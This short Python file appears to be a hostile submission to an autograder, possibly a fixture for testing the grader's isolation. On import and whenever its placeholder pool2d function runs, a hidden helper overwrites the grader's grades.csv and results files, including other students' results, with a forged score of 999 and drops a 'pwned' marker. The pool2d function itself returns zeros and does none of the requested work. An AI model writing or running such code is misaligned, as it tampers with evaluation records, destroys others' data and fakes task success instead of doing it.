# Write into the grader's output directory (and the submission itself).
import os
def _vandal():
    import glob
    for p in ["{OUT}/grades.csv", "{OUT}/pwned.txt", "{OUT}/hostile_write_output/results.json",
              *glob.glob("{OUT}/students/hostile_write_output*/results.json")]:
        try:
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "w") as f:
                f.write("student_id,points\nhostile,999\n")
        except OSError:
            pass
_vandal()
def pool2d(X, pool_size, mode='max'):
    _vandal()
    return torch.zeros(1)
